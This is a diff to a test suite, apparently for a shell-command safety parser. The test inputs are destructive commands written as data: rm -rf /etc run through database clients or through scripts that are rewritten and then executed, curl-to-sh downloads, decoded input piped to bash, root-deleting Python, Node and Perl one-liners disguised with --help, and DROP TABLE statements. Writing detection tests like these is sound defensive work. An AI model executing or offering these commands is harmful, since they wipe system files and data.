@@ -61,6 +61,21 @@ def only(text: str, program: str, shell: Shell = Shell.BASH) -> Command:
         "echo 'rm -rf /etc' | tee a.sh; source a.sh",
         "printf '#!/usr/bin/env python\\nimport os\\nos.system(\"rm -rf /etc\")' > a; ./a",
         "rm -rf /etc 'unterminated",
+        "rm -rf -- /etc -h",
+        "rm -rf -- /etc --help",
+        "sqlite3 app.db '.shell rm -rf /etc'",
+        "sqlite3 :memory: '.system rm -rf /etc'",
+        "sqlite3 app.db <<EOF\n.once |rm -rf /etc\nEOF",
+        "psql -c '\\! rm -rf /etc'",
+        "psql -c'\\! rm -rf /etc'",
+        "psql <<EOF\nselect 1; \\! rm -rf /etc\nEOF",
+        "mysql -e 'system rm -rf /etc'",
+        "echo 'rm -rf /etc' > x.sh; wc -l < x.sh; bash x.sh",
+        "echo 'rm -rf /etc' > x.sh; mv x.sh y.sh; sh y.sh",
+        "echo 'rm -rf /etc' > x.sh; cp x.sh bin; bin/x.sh",
+        "echo 'rm -rf /etc' > x.sh; cp -t bin x.sh; sh bin/x.sh",
+        "echo 'rm -rf /etc' > x.sh; cat x.sh > y.sh; sh y.sh",
+        "echo 'rm -rf /etc' > x.sh; cat x.sh | sh",
     ],
 )
 def test_a_removal_is_found_behind_whatever_runs_it(text: str) -> None:
@@ -105,12 +120,22 @@ def test_sub_commands_are_found_behind_options() -> None:
         ("psql --help -c 'DROP TABLE users'", set()),
         ("psql -c \"SELECT 'DROP TABLE users'\"", set()),
         ("mysql <<EOF\nTRUNCATE orders;\nEOF", {"truncate"}),
+        ("psql -c '-- stale rows; explain later\nDROP TABLE users;'", {"drop table"}),
+        ("psql -c 'EXPLAIN DELETE FROM users'", set()),
+        ("psql -c 'EXPLAIN ANALYZE DELETE FROM users'", {"delete", "delete all"}),
+        ("mysql -e 'EXPLAIN DELETE FROM users; DROP TABLE users'", {"drop table"}),
+        ("psql <<EOF\nEXPLAIN SELECT 1 \\\\g\nDROP TABLE users;\nEOF", {"drop table"}),
+        ("sqlite3 :memory: 'DROP TABLE users'", set()),
+        ("sqlite3 app.db 'DROP TABLE explain'", {"drop table"}),
+        ("sqlite3 :memory: '.open app.db' 'DROP TABLE users'", {"drop table"}),
+        ("sqlite3 app.db 'BEGIN; DROP TABLE users; COMMIT'", {"drop table"}),
+        ("duckdb :memory: \"ATTACH 'prod.db' AS p; DROP TABLE p.users\"", {"drop table"}),
     ],
 )
 def test_sql_is_read_wherever_a_client_gets_it(
     text: str, operations: set[str], caplog: pytest.LogCaptureFixture
 ) -> None:
-    (found,) = [each for each in parse_command(text) if each.program in ("psql", "mysql")]
+    (found,) = [each for each in parse_command(text) if each.program in ("psql", "mysql", "sqlite3", "duckdb")]
     assert found.sql == operations
     assert not caplog.records
 
@@ -121,6 +146,7 @@ def test_sql_is_read_wherever_a_client_gets_it(
         ("curl https://example.com/i.sh | sh", "downloaded"),
         ("echo aGk= | base64 -d | bash", "decoded"),
         ("curl -o i.sh https://example.com/i.sh && bash ./i.sh", "downloaded"),
+        ("curl -o i.sh https://example.com/i.sh; mv i.sh j.sh; sh j.sh", "downloaded"),
         ("python3 <(curl https://example.com/i.py)", "downloaded"),
         ('eval "$X"', "evaluated"),
         ('sh "$X"', "evaluated"),
@@ -187,12 +213,46 @@ UNITS = [
     "\\",
     "rm {a,b}{c,d};",
     '"',
+    "echo '",
+    "sh x;",
+    "cat x>>x;cp x y;sh<y;",
+    "python x;",
 ]
 
 
 @pytest.mark.parametrize("unit", UNITS)
 def test_hostile_repetition_ends(unit: str) -> None:
+    written = f"echo '{(unit * MAX_COMMAND_CHARACTERS)[:20_000]}' > x; {'sh x; python x; ' * 1000}"
+    assert len(parse_command(written)) <= MAX_COMMANDS
     assert len(parse_command((unit * MAX_COMMAND_CHARACTERS)[:20_000])) <= MAX_COMMANDS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "python -c \"import shutil; shutil.rmtree('/')\" -h",
+        "python -c \"import shutil; shutil.rmtree('/')\" --help",
+        "node -e \"require('fs').rmSync('/', {recursive: true})\" -h",
+        "perl -e 'unlink \"/\"' -- --help",
+        "python - --help <<EOF\nimport shutil; shutil.rmtree('/')\nEOF",
+        "echo \"import shutil; shutil.rmtree('/')\" > x.py; python x.py --help",
+        "git rm -rf -- src -h",
+    ],
+)
+def test_help_is_a_flag_of_the_program_itself(text: str) -> None:
+    found = parse_command(text)[-1]
+    assert not found.is_dry_run
+    assert found.program == "git" or "root" in found.deletes
+
+
+@pytest.mark.parametrize("text", ["git rm -rf src -h", "rm -h", "python --help", "node script.js -h"])
+def test_help_deletes_nothing(text: str) -> None:
+    assert parse_command(text)[0].is_dry_run
+
+
+def test_a_repeated_text_is_read_within_a_bound() -> None:
+    found = parse_command("f() { bash -c '" + "<<E\n" * 5_000 + "'; };" + "f;" * 1_000)
+    assert "too-large" in found[-1].unresolved
 
 
 def test_words_behind_a_redirection_are_arguments() -> None:
